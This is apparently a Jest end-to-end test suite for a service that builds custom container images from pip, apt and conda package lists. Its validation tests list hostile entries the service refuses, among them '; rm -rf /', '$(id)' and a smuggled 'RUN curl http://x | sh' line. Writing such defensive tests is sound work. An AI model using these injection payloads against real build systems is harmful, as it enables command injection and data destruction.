/**
 * Custom builds end to end, as a portal drives them: the local server over real HTTP with real
 * tokens, running the real buildspec phase by phase with a stand-in container CLI that succeeds,
 * fails, hangs or waits for the test (test/support/stand-in-cli.ts).
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Build } from '../../lambdas/domain/build.ts';
import type { Image } from '../../lambdas/domain/image.ts';
import { messagesOf, pollBuild, readLog, waitFor } from '../support/build-polling.ts';
import { roleTokens, startLocalApi, type LocalApi } from '../support/local-api.ts';
import { expectInvalid, expectProblem } from '../support/problems.ts';
import { isRunning, STAND_IN_BASE_USER, STAND_IN_FAILURE, STAND_IN_FORGED, writeStandInCli, type StandInCli } from '../support/stand-in-cli.ts';
import { TEST_TIMEOUT_MS } from '../support/hang-guard.ts';

const GROUP = '/groups/team-a/images';

let api: LocalApi;
let cli: StandInCli;
let t: Awaited<ReturnType<typeof roleTokens>>;

beforeAll(async () => {
  cli = await writeStandInCli();
  api = await startLocalApi({ containerCli: cli.path, maxConcurrentBuildsPerGroup: 20 });
  t = await roleTokens(api);
});
afterAll(async () => {
  await api.stop();
  await cli.remove();
});

const BASE = 'quay.io/jupyter/scipy-notebook:2024-05-27';
const customBody = (packages: Record<string, string[]>, extra: Record<string, unknown> = {}) => ({
  displayName: 'jupyter-ds',
  type: 'cpu',
  build: { baseImage: BASE, packages },
  ...extra,
});

async function createCustom(packages: Record<string, string[]>): Promise<Image> {
  const reply = await api.call<Image>('POST', GROUP, { token: t.groupAdmin, body: customBody(packages) });
  if (reply.status !== 201) throw new Error(`creating a custom image answered ${reply.status}: ${JSON.stringify(reply.body)}`);
  return reply.body;
}

const buildPath = (image: string, buildId: string) => `${GROUP}/${image}/builds/${buildId}`;
const getImage = async (name: string) => (await api.call<Image>('GET', `${GROUP}/${name}`, { token: t.member })).body;

/** A build that has reached the stand-in's `buildx build` (where it fails, hangs or waits). */
const reachedBuildx = (buildId: string) =>
  waitFor(async () => (await cli.callsOf(buildId)).some((c) => c.args[0] === 'buildx' && c.args[1] === 'build'), `build ${buildId} to reach buildx build`);

describe('a custom image build that succeeds', () => {
  let created: Image;
  let build: Build;

  beforeAll(async () => {
    created = await createCustom({ pip: ['requests==2.32.3', 'walk-succeeds'], apt: ['curl'] });
    build = await pollBuild(api, t.member, buildPath(created.name, created.latestBuild!.id));
  }, TEST_TIMEOUT_MS);

  it('answers the create with a custom image that is not ready yet and a queued build', () => {
    // Assess
    expect(created).toEqual(expect.objectContaining({ source: 'build', ready: false, url: null, latestBuild: expect.objectContaining({ status: 'queued' }) }));
    expect(created.buildSpec).toEqual({ baseImage: BASE, packages: { apt: ['curl'], pip: ['requests==2.32.3', 'walk-succeeds'] } });
  });

  it('ends succeeded, with the produced imageUrl, not a dry run, not reused', () => {
    // Assess
    expect(build).toEqual(
      expect.objectContaining({
        status: 'succeeded',
        imageUrl: expect.stringMatching(/^localhost\/group-images:sha-[0-9a-f]{32}$/),
        reused: false,
        dryRun: false,
        failureReason: null,
        startedAt: expect.any(String),
        finishedAt: expect.any(String),
        createdBy: 'ada',
      }),
    );
  });

  it("leaves the image ready, its url the build's imageUrl", async () => {
    // Act: the image is told right after the build's own record (a moment later)
    const image = await waitFor(async () => {
      const now = await getImage(created.name);
      return now.latestBuild?.status === 'succeeded' && now;
    }, 'the image to be told its build succeeded');

    // Assess
    expect(image).toEqual(
      expect.objectContaining({ ready: true, url: build.imageUrl, latestBuild: expect.objectContaining({ id: build.id, status: 'succeeded' }) }),
    );
  });

  it("ran the container CLI on the build context, tagging the image with that url and the base image's user", async () => {
    // Act
    const calls = await cli.callsOf(build.id);

    // Assess
    const buildx = calls.find((c) => c.args[0] === 'buildx' && c.args[1] === 'build')!;
    expect(buildx.args).toEqual(
      expect.arrayContaining(['--tag', build.imageUrl!, '--build-arg', `BASE_IMAGE=${BASE}`, '--build-arg', `BASE_USER=${STAND_IN_BASE_USER}`]),
    );
    expect(await cli.contextOf(build.id)).toEqual(
      expect.objectContaining({
        'pip.txt': 'requests==2.32.3\nwalk-succeeds\n',
        'apt.txt': 'curl\n',
        Dockerfile: expect.stringContaining('FROM ${BASE_IMAGE}'),
      }),
    );
  });

  it('keeps a log of every phase, read to its end with cursors', async () => {
    // Act
    const log = await readLog(api, t.member, buildPath(created.name, build.id));

    // Assess
    expect(log.ended).toBe(true);
    expect(messagesOf(log)).toEqual(
      expect.arrayContaining([
        '[Container] Entering phase INSTALL',
        '[Container] Entering phase PRE_BUILD',
        '[Container] Entering phase BUILD',
        '#8 2.101 Successfully installed the packages',
        `built ${build.imageUrl}`,
        '[Container] Build SUCCEEDED',
      ]),
    );
  });
});

describe('a custom image build that fails', () => {
  let created: Image;
  let build: Build;

  beforeAll(async () => {
    created = await createCustom({ pip: ['numpy', 'standin-fails'] });
    build = await pollBuild(api, t.member, buildPath(created.name, created.latestBuild!.id));
  }, TEST_TIMEOUT_MS);

  it('ends failed in BUILD, with a reason naming the failure in words a group admin can act on', () => {
    // Assess
    expect(build.status).toBe('failed');
    expect(build.phase).toBe('building');
    expect(build.imageUrl).toBeNull();
    expect(build.failureReason).toMatch(new RegExp(`^${STAND_IN_FAILURE} \\(Installing the packages failed`));
    expect(build.failureReason).not.toContain('evil.example.com');
  });

  it('has a readable log that ends with the failure', async () => {
    // Act
    const log = await readLog(api, t.member, buildPath(created.name, build.id));

    // Assess
    expect(log.ended).toBe(true);
    // The step's own FAILED lines are there, as output; the reason is the template's marker, with this build's nonce.
    expect(messagesOf(log)).toEqual(expect.arrayContaining([`#8 0.413 ${STAND_IN_FORGED}`, STAND_IN_FORGED, '[Container] Build FAILED']));
    expect(messagesOf(log).filter((m) => m.endsWith(`]: ${STAND_IN_FAILURE}`))).toEqual([expect.stringMatching(/^FAILED \[[0-9a-f-]{36}\]: /)]);
  });

  it('leaves the image not ready', async () => {
    // Act
    const image = await getImage(created.name);

    // Assess
    expect(image).toEqual(expect.objectContaining({ ready: false, url: null, latestBuild: expect.objectContaining({ status: 'failed' }) }));
  });
});

describe('a hanging build, cancelled (steps in order)', () => {
  let created: Image;
  let path: string;
  let pids: number[];

  beforeAll(async () => {
    created = await createCustom({ pip: ['standin-hangs'] });
    path = buildPath(created.name, created.latestBuild!.id);
    await reachedBuildx(created.latestBuild!.id);
    pids = await waitFor(() => (cli.hangingPids().length === 2 ? cli.hangingPids() : undefined), 'the hanging CLI to record its pids');
  }, TEST_TIMEOUT_MS);

  it('runs until cancelled: building in BUILD, its processes alive', async () => {
    // Act
    const build = (await api.call<Build>('GET', path, { token: t.member })).body;

    // Assess
    expect(build).toEqual(expect.objectContaining({ status: 'building', phase: 'building' }));
    expect(pids.map(isRunning)).toEqual([true, true]);
  });

  it('answers the cancel with 202 and the build cancelled', async () => {
    // Act
    const reply = await api.call<Build>('POST', `${path}/cancel`, { token: t.groupAdmin });

    // Assess
    expect(reply.status).toBe(202);
    expect(reply.body).toEqual(
      expect.objectContaining({ id: created.latestBuild!.id, status: 'cancelled', finishedAt: expect.any(String), failureReason: null }),
    );
  });

  it('kills the whole process tree: the CLI and the child it started', async () => {
    // Act
    const gone = await waitFor(() => pids.every((pid) => !isRunning(pid)), 'the hanging processes to end').catch(() => false);

    // Assess
    expect({ gone, running: pids.filter(isRunning) }).toEqual({ gone: true, running: [] });
  });

  it('keeps the log readable after the cancel, to its end', async () => {
    // Act
    const log = await readLog(api, t.member, path);

    // Assess
    expect(log.ended).toBe(true);
    expect(messagesOf(log)).toEqual(expect.arrayContaining(['[Container] Entering phase BUILD', '#8 1.000 Collecting standin-hangs']));
  });

  it('stays cancelled once the runner has reported the stop', async () => {
    // Act
    await api.server.builder.idle();
    const build = (await api.call<Build>('GET', path, { token: t.member })).body;

    // Assess
    expect(build.status).toBe('cancelled');
    expect((await getImage(created.name)).latestBuild).toEqual(expect.objectContaining({ status: 'cancelled' }));
  });

  it('refuses to cancel it again (409)', async () => {
    // Act
    const reply = await api.call('POST', `${path}/cancel`, { token: t.groupAdmin });

    // Assess
    expectProblem(reply, 409);
  });
});

describe('rebuilding', () => {
  it(
    'keeps the old url while the rebuild runs, moves it when the rebuild succeeds, and lists history newest first',
    async () => {
      // Prepare
      const created = await createCustom({ pip: ['rebuild-one'] });
      const first = await pollBuild(api, t.member, buildPath(created.name, created.latestBuild!.id));

      // Act: a rebuild with a new spec that waits at buildx build until the test lets it go
      const started = await api.call<Build>('POST', `${GROUP}/${created.name}/builds`, {
        token: t.groupAdmin,
        body: { build: { baseImage: BASE, packages: { pip: ['rebuild-one', 'standin-gate-rebuild'] } } },
      });
      await reachedBuildx(started.body.id);
      const during = await getImage(created.name);
      const busy = await api.call('POST', `${GROUP}/${created.name}/builds`, { token: t.groupAdmin });
      await cli.open('rebuild');
      const second = await pollBuild(api, t.member, buildPath(created.name, started.body.id));
      const after = await getImage(created.name);
      const pages: string[][] = [];
      let cursor: string | null = null;
      do {
        const reply: { body: { items: Build[]; nextCursor: string | null } } = await api.call(
          'GET',
          `${GROUP}/${created.name}/builds?limit=1${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
          { token: t.member },
        );
        pages.push(reply.body.items.map((b) => b.id));
        cursor = reply.body.nextCursor;
      } while (cursor !== null && pages.length < 5);

      // Assess
      expect(first.status).toBe('succeeded');
      expect(started.status).toBe(202);
      expect(started.headers.get('location')).toBe(`${GROUP}/${created.name}/builds/${started.body.id}`);
      expect(started.body).toEqual(
        expect.objectContaining({
          status: expect.stringMatching(/^(queued|building)$/),
          spec: { baseImage: BASE, packages: { pip: ['rebuild-one', 'standin-gate-rebuild'] } },
        }),
      );
      expect(during).toEqual(
        expect.objectContaining({ ready: true, url: first.imageUrl, latestBuild: expect.objectContaining({ id: started.body.id, status: 'building' }) }),
      );
      expectProblem(busy, 409);
      expect(second.status).toBe('succeeded');
      expect(after.url).toBe(second.imageUrl);
      expect(after.url).not.toBe(first.imageUrl);
      expect(pages).toEqual([[second.id], [first.id]]);
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'keeps the old url when the rebuild fails',
    async () => {
      // Prepare
      const created = await createCustom({ pip: ['rebuild-two'] });
      const first = await pollBuild(api, t.member, buildPath(created.name, created.latestBuild!.id));

      // Act
      const started = await api.call<Build>('POST', `${GROUP}/${created.name}/builds`, {
        token: t.groupAdmin,
        body: { build: { baseImage: BASE, packages: { pip: ['rebuild-two', 'standin-fails'] } } },
      });
      const failed = await pollBuild(api, t.member, buildPath(created.name, started.body.id));

      // Assess
      expect(failed.status).toBe('failed');
      expect(await getImage(created.name)).toEqual(
        expect.objectContaining({ ready: true, url: first.imageUrl, latestBuild: expect.objectContaining({ status: 'failed' }) }),
      );
    },
    TEST_TIMEOUT_MS,
  );

  it(
    'keeps the log readable while the build runs, with a cursor to come back with',
    async () => {
      // Prepare
      const created = await createCustom({ pip: ['standin-gate-during'] });
      const path = buildPath(created.name, created.latestBuild!.id);
      await reachedBuildx(created.latestBuild!.id);

      // Act
      const during = await readLog(api, t.member, path);
      await cli.open('during');
      await pollBuild(api, t.member, path);

      // Assess
      expect(during.ended).toBe(false);
      expect(messagesOf(during)).toContain('[Container] Entering phase BUILD');
      expect(messagesOf(during)).not.toContain('[Container] Build SUCCEEDED');
    },
    TEST_TIMEOUT_MS,
  );
});

describe('identical specs', () => {
  it(
    'reuses the image of a spec built before in the group, without running the container CLI',
    async () => {
      // Prepare
      const first = await createCustom({ pip: ['pandas', 'reuse-me'], apt: ['git'] });
      const built = await pollBuild(api, t.member, buildPath(first.name, first.latestBuild!.id));
      const callsBefore = (await cli.calls()).length;

      // Act: the same spec, written differently
      const second = await createCustom({ apt: ['git'], pip: ['reuse-me', 'pandas'] });
      const reused = (await api.call<Build>('GET', buildPath(second.name, second.latestBuild!.id), { token: t.member })).body;

      // Assess
      expect(built.status).toBe('succeeded');
      expect(second).toEqual(expect.objectContaining({ ready: true, url: built.imageUrl }));
      expect(reused).toEqual(expect.objectContaining({ status: 'succeeded', reused: true, imageUrl: built.imageUrl }));
      expect(await cli.callsOf(reused.id)).toEqual([]);
      expect((await cli.calls()).length).toBe(callsBefore);
    },
    TEST_TIMEOUT_MS,
  );
});

describe('deleting an image while it builds', () => {
  it(
    'answers 204, stops the build and kills its processes',
    async () => {
      // Prepare
      const earlier = new Set(cli.hangingPids());
      const created = await createCustom({ pip: ['standin-hangs', 'delete-me'] });
      const buildId = created.latestBuild!.id;
      const pids = await waitFor(() => {
        const mine = cli.hangingPids().filter((p) => !earlier.has(p));
        return mine.length === 2 ? mine : undefined;
      }, 'the hanging CLI to record its pids');

      // Act
      const reply = await api.call('DELETE', `${GROUP}/${created.name}`, { token: t.groupAdmin });

      // Assess
      expect(reply.status).toBe(204);
      expect((await api.call<Build>('GET', buildPath(created.name, buildId), { token: t.member })).body.status).toBe('cancelled');
      expect(await waitFor(() => pids.every((p) => !isRunning(p)), 'the processes to end').catch(() => false)).toBe(true);
    },
    TEST_TIMEOUT_MS,
  );
});

describe('package specs', () => {
  it(
    "accepts the contract's real-world specs and hands each entry to the build as one line of its list",
    async () => {
      // Prepare
      const packages = {
        apt: ['curl', 'g++', 'libssl-dev=3.0.11-1~deb12u2'],
        conda: ['numpy', 'numpy==1.17*', 'conda-forge::numpy==1.17*', 'numpy>=1.20,<2', '-c conda-forge::numpy==1.17*'],
        pip: [
          'requests',
          'requests==2.32.3',
          'scikit-learn>=1.3,<1.6',
          'uvicorn[standard]>=0.30',
          'torch==2.1.0+cu118',
          'backports.zoneinfo; python_version < "3.9"',
        ],
      };

      // Act
      const reply = await api.call<Image>('POST', GROUP, { token: t.groupAdmin, body: customBody(packages) });
      const build = await pollBuild(api, t.member, buildPath(reply.body.name, reply.body.latestBuild!.id));
      const context = await cli.contextOf(build.id);

      // Assess
      expect(reply.status).toBe(201);
      expect(build.status).toBe('succeeded');
      expect(context['apt.txt']!.split('\n').filter(Boolean).sort()).toEqual([...packages.apt].sort());
      expect(context['pip.txt']!.split('\n').filter(Boolean).sort()).toEqual([...packages.pip].sort());
      expect(context['conda.txt']!.split('\n').filter(Boolean).sort()).toEqual(['conda-forge::numpy==1.17*', 'numpy', 'numpy==1.17*', 'numpy>=1.20,<2']);
    },
    TEST_TIMEOUT_MS,
  );

  const hostile: [string, 'apt' | 'conda' | 'pip', string[], number][] = [
    ['a command substitution', 'pip', ['requests', '$(id)'], 1],
    ['a shell command after a separator', 'apt', ['; rm -rf /'], 0],
    ['a pip option pointing at another index', 'pip', ['numpy', 'pandas', '--index-url http://x'], 2],
    ['a VCS url', 'pip', ['git+https://github.com/psf/requests.git'], 0],
    ['a line break smuggling a Dockerfile line', 'conda', ['numpy\nRUN curl http://x | sh'], 0],
    ['a backtick command', 'apt', ['curl', '`id`'], 1],
    ['a conda channel given as a url', 'conda', ['https://evil.example.com/channel::numpy'], 0],
    ['a requirement that is a url', 'pip', ['requests @ https://x.example.com/requests.tar.gz'], 0],
  ];

  it.each(hostile)('refuses %s with a 422 naming the entry', async (_what, manager, entries, index) => {
    // Prepare
    const callsBefore = (await cli.calls()).length;

    // Act
    const reply = await api.call('POST', GROUP, { token: t.groupAdmin, body: customBody({ [manager]: entries }) });

    // Assess
    const problem = expectInvalid(reply, `/build/packages/${manager}/${index}`);
    expect(problem.errors![0]!.message).toEqual(expect.any(String));
    expect((await cli.calls()).length).toBe(callsBefore);
  });

  it('names every bad entry of a request at once', async () => {
    // Act
    const reply = await api.call('POST', GROUP, {
      token: t.groupAdmin,
      body: customBody({ apt: ['curl', '; rm -rf /'], pip: ['$(id)', 'requests', '--index-url http://x'] }),
    });

    // Assess
    expectInvalid(reply, '/build/packages/apt/1', '/build/packages/pip/0', '/build/packages/pip/2');
  });

  it(
    'refuses a hostile entry in a rebuild the same way',
    async () => {
      // Prepare
      const created = await createCustom({ pip: ['hostile-rebuild'] });
      await pollBuild(api, t.member, buildPath(created.name, created.latestBuild!.id));

      // Act
      const reply = await api.call('POST', `${GROUP}/${created.name}/builds`, {
        token: t.groupAdmin,
        body: { build: { baseImage: BASE, packages: { pip: ['hostile-rebuild', '$(id)'] } } },
      });

      // Assess
      expectInvalid(reply, '/build/packages/pip/1');
    },
    TEST_TIMEOUT_MS,
  );
});

describe('who may do what with builds', () => {
  it(
    'lets members read builds and logs, but not rebuild or cancel (403)',
    async () => {
      // Prepare
      const created = await createCustom({ pip: ['standin-gate-roles'] });
      const path = buildPath(created.name, created.latestBuild!.id);

      // Act
      const replies = {
        read: (await api.call('GET', path, { token: t.member })).status,
        logs: (await api.call('GET', `${path}/logs`, { token: t.member })).status,
        history: (await api.call('GET', `${GROUP}/${created.name}/builds`, { token: t.member })).status,
        rebuild: (await api.call('POST', `${GROUP}/${created.name}/builds`, { token: t.member })).status,
        cancel: (await api.call('POST', `${path}/cancel`, { token: t.member })).status,
        outsiderRead: (await api.call('GET', path, { token: t.otherMember })).status,
        outsiderCancel: (await api.call('POST', `${path}/cancel`, { token: t.otherAdmin })).status,
        anonymous: (await api.call('GET', path)).status,
      };
      await cli.open('roles');
      const build = await pollBuild(api, t.member, path);

      // Assess
      expect(replies).toEqual({ read: 200, logs: 200, history: 200, rebuild: 403, cancel: 403, outsiderRead: 403, outsiderCancel: 403, anonymous: 401 });
      expect(build.status).toBe('succeeded');
    },
    TEST_TIMEOUT_MS,
  );
});
